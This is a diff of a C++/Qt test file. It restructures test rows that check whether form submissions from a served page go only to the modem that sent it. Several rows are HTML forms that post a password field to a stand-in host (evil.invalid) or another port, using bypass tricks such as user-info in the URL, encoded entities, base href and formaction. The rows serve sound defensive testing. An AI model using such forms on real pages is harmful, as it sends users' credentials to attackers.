@@ -22,6 +22,9 @@ const auto kAnswer = [](const httplib::Request&, httplib::Response& res) {
     res.set_content("<p>sent</p>", "text/html");
 };
 
+const QString kFields =
+    "<input type=password name=pws value=secret><input type=submit id=go></form>";
+
 QString portOf(const test::PageServer& server)
 {
     return QString::fromStdString(server.address()).section(u':', 1);
@@ -159,43 +162,34 @@ private slots:
     {
         QTest::addColumn<QString>("page");
         QTest::addColumn<QString>("reached");
-        const auto form = [](const char* name, const char* start, const char* reached) {
-            QTest::newRow(name) << QString(start) + "<input type=password name=pws value=secret>"
-                                                    "<input type=submit id=go></form>"
-                                << QString(reached);
+        const auto row = [](const char* name, const QString& page, const char* reached) {
+            QTest::newRow(name) << page << QString(reached);
         };
-        form("another host", "<form method=post action=http://evil.invalid/send>", "");
-        form("another port", "<form method=post action=http://127.0.0.1:%2/send>", "");
-        form("another scheme", "<form method=post action=https://127.0.0.1:%1/send>", "");
-        form("base to another host",
-             "<base href=http://evil.invalid/><form method=post "
-             "action=send>",
-             "");
-        form("no scheme", "<form method=post action=//evil.invalid/send>", "");
-        form("user info before another host",
-             "<form method=post action=http://127.0.0.1:%1@evil.invalid/send>", "");
-        form("upper-case scheme", "<form method=post action=HTTP://EVIL.invalid/send>", "");
-        form("leading blanks", "<form method=post action='  http://evil.invalid/send'>", "");
-        form("entities", "<form method=post action='&#104;ttp:&#x2F;/evil&#46;invalid/send'>", "");
-        form("GET to another port", "<form action=http://127.0.0.1:%2/send>", "");
-        QTest::newRow("button's own action to another port")
-            << "<form method=post action=/send><input type=submit id=go "
-               "formaction=http://127.0.0.1:%2/send></form>"
-            << "";
-        QTest::newRow("link to another port") << "<a id=go href=http://127.0.0.1:%2/send>x</a>"
-                                              << "";
-        form("relative action", "<form method=post action=send>", "POST /send");
-        form("empty action", "<form method=post action=''>", "POST /form.htm");
-        form("same host and port", "<form method=post action=http://127.0.0.1:%1/send>",
-             "POST /send");
-        form("the modem spelled otherwise",
-             "<form method=post action=' HTTP://127.0.0.1:%1/x/../send'>", "POST /send");
-        form("base on the modem",
-             "<base href=http://127.0.0.1:%1/x/><form method=post "
-             "action=../send>",
-             "POST /send");
-        QTest::newRow("link on the modem") << "<a id=go href=/send>x</a>"
-                                           << "GET /send";
+        const auto post = [&row](const char* name, const char* action, const char* reached) {
+            row(name, "<form method=post action=" + QString(action) + '>' + kFields, reached);
+        };
+        post("another host", "http://evil.invalid/send", "");
+        post("another port", "http://127.0.0.1:%2/send", "");
+        post("another scheme", "https://127.0.0.1:%1/send", "");
+        post("no scheme", "//evil.invalid/send", "");
+        post("user info before another host", "http://127.0.0.1:%1@evil.invalid/send", "");
+        post("upper-case scheme", "HTTP://EVIL.invalid/send", "");
+        post("leading blanks", "'  http://evil.invalid/send'", "");
+        post("entities", "'&#104;ttp:&#x2F;/evil&#46;invalid/send'", "");
+        row("base to another host",
+            "<base href=http://evil.invalid/><form method=post action=send>" + kFields, "");
+        row("GET to another port", "<form action=http://127.0.0.1:%2/send>" + kFields, "");
+        row("button's own action to another port",
+            "<form method=post><input type=submit id=go formaction=http://127.0.0.1:%2/send>", "");
+        row("link to another port", "<a id=go href=http://127.0.0.1:%2/send>x</a>", "");
+        post("relative action", "send", "POST /send");
+        post("empty action", "''", "POST /form.htm");
+        post("same host and port", "http://127.0.0.1:%1/send", "POST /send");
+        post("the modem spelled otherwise", "' HTTP://127.0.0.1:%1/x/../send'", "POST /send");
+        row("base on the modem",
+            "<base href=http://127.0.0.1:%1/x/><form method=post action=../send>" + kFields,
+            "POST /send");
+        row("link on the modem", "<a id=go href=/send>x</a>", "GET /send");
     }
     void submit_goesOnlyToTheModemThatSentThePage()
     {
